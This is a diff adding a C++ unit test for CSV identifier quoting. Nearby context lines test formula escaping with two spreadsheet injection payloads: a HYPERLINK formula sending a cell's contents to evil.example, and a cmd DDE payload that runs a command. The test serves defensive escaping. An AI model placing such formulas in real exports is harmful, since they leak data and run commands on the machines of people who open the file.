@@ -60,6 +60,13 @@ TEST(CsvIdentifier, keeps_every_byte_and_quotes_only_where_csv_needs_it) {
   EXPECT_EQ(csv_identifier(" x"), "\" x\"");
 }
 
+TEST(CsvIdentifier, quotes_every_field_when_asked_and_still_keeps_every_byte) {
+  EXPECT_EQ(csv_identifier("jdoe", CsvQuotes::always), "\"jdoe\"");
+  EXPECT_EQ(csv_identifier("", CsvQuotes::always), "\"\"");
+  EXPECT_EQ(csv_identifier("-rf", CsvQuotes::always), "\"-rf\"");
+  EXPECT_EQ(csv_identifier("a\"b", CsvQuotes::always), "\"a\"\"b\"");
+}
+
 TEST(CsvField, guards_formulas_by_the_owasp_rule) {
   EXPECT_EQ(csv_field(kFormula), "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
   EXPECT_EQ(csv_field("+1+cmd|' /C calc'!A0"), "\"'+1+cmd|' /C calc'!A0\"");
